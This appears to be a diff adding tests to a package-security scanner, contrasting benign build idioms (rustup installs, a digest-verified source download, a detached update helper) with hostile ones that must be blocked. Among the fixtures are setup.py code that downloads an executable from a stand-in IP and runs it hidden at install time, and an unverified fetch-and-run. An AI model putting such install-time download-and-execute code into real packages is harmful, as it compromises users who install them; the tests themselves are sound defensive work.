@@ -135,3 +135,84 @@ def test_a_docstring_quoting_an_example_with_escaped_quotes_stays_prose(rules):
               '    return port\n')
     result = scan({"widgetry/tunnel.py": module, "widgetry/__init__.py": ""}, rules)
     assert all(f.points <= 2 for f in result.findings if f.rule_id != "eng_typosquat")
+
+
+# --- pyproject.toml: the tables of development tools --------------------------------------------
+
+PYPROJECT = (
+    "[build-system]\nrequires = ['maturin>=1.0']\nbuild-backend = 'maturin'\n\n"
+    "[project]\nname = 'widgetry'\nversion = '1.0'\n\n"
+    "[tool.cibuildwheel.linux]\n"
+    "before-all = \"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\"\n\n"
+    "[tool.tox]\nlegacy_tox_ini = \"\"\"\n[tox]\nenvlist = py311\n\n[gh-actions]\npython =\n    3.11: py311\n\"\"\"\n"
+)
+
+
+def test_ci_wheel_builder_and_tox_tables_in_pyproject_stay_low(rules):
+    result = scan({"pyproject.toml": PYPROJECT, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_the_same_line_in_a_table_no_development_tool_owns_still_counts(rules):
+    other = PYPROJECT.replace("[tool.cibuildwheel.linux]", "[tool.widgetry-build]")
+    low = scan({"pyproject.toml": PYPROJECT, "widgetry/__init__.py": ""}, rules)
+    result = scan({"pyproject.toml": other, "widgetry/__init__.py": ""}, rules)
+    assert result.score >= low.score + 10
+
+
+# --- a build step fetching a source archive it checks against a pinned digest ---------------------
+
+BACKEND_FETCH = (
+    "import hashlib, os, subprocess, tarfile, urllib.request\n\n"
+    "URL = 'https://downloads.example.org/widget-3.2.tar.gz'\nEXPECTED_SHA256 = 'ab' * 32\n\n"
+    "def fetch_sources(dest):\n"
+    "    with urllib.request.urlopen(URL) as response:\n        data = response.read()\n"
+    "    sha256 = hashlib.sha256(data).hexdigest()\n"
+    "    if sha256 != EXPECTED_SHA256:\n        raise RuntimeError(f'Invalid sha256 for {URL}')\n"
+    "    path = os.path.join(dest, 'widget.tar.gz')\n"
+    "    with open(path, 'wb') as fh:\n        fh.write(data)\n"
+    "    tarfile.open(path).extractall(dest)\n"
+    "    subprocess.run([os.path.join(dest, 'bootstrap'), '--parallel'], check=True)\n"
+)
+
+
+def test_a_build_step_that_verifies_its_download_against_a_digest_stays_low(rules):
+    setup = SETUP_HEAD + "from build_helpers import fetch_sources\nfetch_sources('build')\nsetup(name='widgetry')\n"
+    result = scan({"setup.py": setup, "build_helpers.py": BACKEND_FETCH, "widgetry/__init__.py": ""}, rules)
+    assert not any(f.rule_id.startswith("eng_combo") for f in result.findings)
+    assert result.verdict in LOW
+
+
+def test_the_same_download_and_run_without_a_digest_check_still_blocks(rules):
+    unchecked = (BACKEND_FETCH.replace("    sha256 = hashlib.sha256(data).hexdigest()\n", "")
+                 .replace("    if sha256 != EXPECTED_SHA256:\n        raise RuntimeError(f'Invalid sha256 for {URL}')\n", "")
+                 .replace("https://downloads.example.org", "http://203.0.113.7"))
+    setup = SETUP_HEAD + "from build_helpers import fetch_sources\nfetch_sources('build')\nsetup(name='widgetry')\n"
+    result = scan({"setup.py": setup, "build_helpers.py": unchecked, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in BLOCKING
+
+
+# --- platform idioms: a detached helper process, bundled dependencies, fuzzing harnesses -------
+
+def test_a_library_starting_a_detached_helper_without_a_console_stays_low(rules):
+    helper = ("import subprocess, sys\n\ndef start_update_check():\n"
+              "    flags = subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS if sys.platform == 'win32' else 0\n"
+              "    subprocess.Popen([sys.executable, '-m', 'widgetry.update'], creationflags=flags)\n")
+    result = scan({"widgetry/update.py": helper, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_install_time_code_starting_a_hidden_process_still_blocks(rules):
+    setup = SETUP_HEAD + ("import subprocess, urllib.request\n"
+                          "urllib.request.urlretrieve('http://203.0.113.7/u.exe', 'u.exe')\n"
+                          "subprocess.Popen(['u.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
+                          "setup(name='widgetry')\n")
+    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
+
+
+def test_bundled_c_dependencies_and_fuzzing_scripts_weigh_little(rules):
+    files = {"deps/c-ares/src/lib/ares_getaddrinfo.c": "/* reject queries for \".onion\" names */\n",
+             "deps/c-ares/README.md": "Reject queries for `.onion` domain names.\n",
+             "widgetry/_native/fuzz/build.sh": "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n",
+             "widgetry/__init__.py": ""}
+    assert scan(files, rules).verdict in LOW
